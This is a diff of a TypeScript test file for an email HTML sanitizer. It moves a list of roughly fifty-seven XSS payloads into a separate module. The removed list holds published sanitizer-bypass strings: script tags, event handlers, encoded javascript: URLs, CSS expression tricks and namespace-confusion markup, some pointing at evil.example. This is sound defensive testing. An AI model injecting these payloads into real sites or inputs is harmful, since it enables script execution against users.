@@ -1,6 +1,7 @@
 import { describe, expect, it } from "@effect/vitest"
 import { htmlToPlainText, makeSnippet, sanitizeEmailHtml } from "../src/mail/index.ts"
 import { walkHtml } from "../src/mail/sanitize.ts"
+import { XssPayloads } from "./xss-payloads.ts"
 
 const blocked = (html: string) => sanitizeEmailHtml(html, { allowRemoteImages: false })
 const allowed = (html: string) => sanitizeEmailHtml(html, { allowRemoteImages: true })
@@ -50,73 +51,12 @@ const expectInert = (html: string) => {
   }
 }
 
-/** Attack strings from the usual cheat sheets and published sanitizer bypasses. */
-const PAYLOADS: ReadonlyArray<readonly [name: string, html: string]> = [
-  ["script element", `<p>hi</p><script>alert(1)</script>`],
-  ["script with upper case and a protocol-relative src", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`],
-  ["img onerror", `<img src=x onerror=alert(1)>`],
-  ["img onerror on a remote image", `<img src="https://cdn.example/a.png" onerror="alert(1)">`],
-  ["svg onload", `<svg onload=alert(1)>`],
-  ["script inside svg", `<svg><script>alert(1)</script></svg>`],
-  ["javascript: href", `<a href="javascript:alert(1)">click</a>`],
-  ["mixed-case javascript: href", `<a href="JaVaScRiPt:alert(1)">click</a>`],
-  ["javascript: href as decimal entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`],
-  ["javascript: href with hex entities and &colon;", `<a href="&#x6A;avascript&colon;alert(1)">click</a>`],
-  ["javascript: href split by a tab entity", `<a href="java&#x09;script:alert(1)">click</a>`],
-  ["javascript: href split by a newline", `<a href="java\nscript:alert(1)">click</a>`],
-  ["javascript: href behind control characters and spaces", `<a href=" \u0001\u0008 javascript:alert(1)">click</a>`],
-  ["vbscript: href", `<a href="vbscript:msgbox(1)">click</a>`],
-  ["data:text/html href", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`],
-  ["data:text/html href with markup", `<a href="data:text/html,<script>alert(1)</script>">click</a>`],
-  ["iframe with javascript: src", `<iframe src="javascript:alert(1)"></iframe>`],
-  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
-  ["markup hidden as iframe fallback", `<iframe><img src=x onerror=alert(1)></iframe>`],
-  ["object data", `<object data="javascript:alert(1)"><param name=x value=y></object>`],
-  ["object classid and codebase", `<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83" codebase="javascript:alert(1)"></object>`],
-  ["embed of an svg", `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
-  ["applet", `<applet code="Evil.class" codebase="https://evil.example/"></applet>`],
-  ["form with javascript: action", `<form action="javascript:alert(1)"><button>Go</button></form>`],
-  ["input formaction and autofocus", `<form><input type=submit formaction=javascript:alert(1)><input onfocus=alert(1) autofocus></form>`],
-  ["isindex", `<isindex action=javascript:alert(1) type=image>`],
-  ["meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`],
-  ["base href", `<base href="javascript:alert(1)//"><a href="/x">x</a>`],
-  ["link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`],
-  ["style attribute url(javascript:)", `<div style="background:url(javascript:alert(1))">x</div>`],
-  ["style attribute expression()", `<div style="width: expression(alert(1))">x</div>`],
-  ["style attribute expression() split by comments", `<p style="color:red;/**/width:expr/**/ession(alert(1))">x</p>`],
-  ["style attribute behavior", `<div style="behavior: url(xss.htc)">x</div>`],
-  ["style attribute with a CSS escape", `<div style="background:u\\72l(javascript:alert(1))">x</div>`],
-  ["style attribute url() with entity quotes", `<div style="background-image: url(&quot;javascript:alert(1)&quot;)">x</div>`],
-  ["style element @import and url(javascript:)", `<style>@import 'https://evil.example/x.css'; body{background:url("javascript:alert(1)")}</style><p>x</p>`],
-  ["style element -moz-binding", `<style>*{-moz-binding:url(https://evil.example/xss.xml#xss)}</style>`],
-  ["style element closed early in svg", `<svg><style><img src=x onerror=alert(1)></style></svg>`],
-  ["math/mglyph/style namespace confusion", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`],
-  ["noscript title breakout", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
-  ["template content", `<template><script>alert(1)</script><img src=x onerror=alert(1)></template>`],
-  ["nested script tag halves", `<scr<script>ipt>alert(1)</scr</script>ipt>`],
-  ["unclosed img onerror", `<img src=x onerror=alert(1)//`],
-  ["broken attribute quoting", `<img """><script>alert(1)</script>">`],
-  ["body onload", `<body onload=alert(1)><p>x</p></body>`],
-  ["details ontoggle", `<details open ontoggle=alert(1)><summary>x</summary></details>`],
-  ["onclick on a safe link", `<a href="https://ok.example/" onclick="alert(1)">x</a>`],
-  ["xmp raw text", `<xmp><img src=x onerror=alert(1)></xmp>`],
-  ["textarea raw text", `<textarea><img src=x onerror=alert(1)></textarea>`],
-  ["svg xlink:href", `<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>`],
-  ["svg animate of href", `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>`],
-  ["video poster and source onerror", `<video poster=javascript:alert(1)><source onerror=alert(1)></video>`],
-  ["frameset onload", `<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`],
-  ["comment trick", `<!--><img src=x onerror=alert(1)>-->`],
-  ["img src running its own alt", `<img src=x:alert(alt) onerror=eval(src) alt=0>`],
-  ["svg image as data: img", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
-  ["ping and srcset", `<a href="https://ok.example/" ping="https://evil.example/">x</a><img srcset="javascript:alert(1) 1x" src="cid:a">`]
-]
-
 describe("sanitizeEmailHtml against XSS payloads", () => {
   it("has at least 30 payloads", () => {
-    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30)
+    expect(XssPayloads.length).toBeGreaterThanOrEqual(30)
   })
 
-  for (const [name, payload] of PAYLOADS) {
+  for (const [name, payload] of XssPayloads) {
     it(`leaves nothing executable: ${name}`, () => {
       const { html } = blocked(payload)
       expectInert(html)
